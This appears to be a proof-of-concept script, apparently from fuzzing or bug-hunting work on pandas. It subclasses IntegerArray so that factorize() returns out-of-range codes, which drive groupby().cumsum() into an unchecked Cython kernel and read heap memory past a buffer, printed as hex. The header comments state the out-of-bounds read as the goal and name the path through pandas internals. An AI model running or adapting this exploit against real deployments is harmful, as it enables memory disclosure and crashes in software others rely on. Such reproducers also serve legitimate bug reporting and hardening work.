# source: pandas/core/algorithms.py factorize() calls ExtensionArray.factorize() of the object and keeps its codes; Grouping -> BaseGrouper.group_info -> _libs/groupby.pyx group_cumsum (@boundscheck(False))
# family: ExtensionArray public hooks whose results pandas trusts as integer indexers (codes past the uniques) -> unchecked Cython kernels
# goal: out-of-bounds heap read: a subclass of IntegerArray answers factorize() with codes 1..36 for one unique value; groupby(...).cumsum() reads past its 1-group accumulator
import numpy as np
import pandas as pd


class Keys(pd.arrays.IntegerArray):
    def factorize(self, na_sentinel=None, use_na_sentinel=None):
        codes = np.arange(len(self), dtype=np.intp) * 5 + 1
        return codes, pd.array([0], dtype="Int64")


k = Keys(np.zeros(8, dtype=np.int64), np.zeros(8, dtype=bool))
s = pd.Series(np.zeros(8, dtype=np.int64))
gb = s.groupby(k, sort=False)
print("labels:", gb.ngroup().tolist(), "groups:", gb.ngroups)
print("cumsum of zeros:", [hex(int(t)) for t in gb.cumsum()])
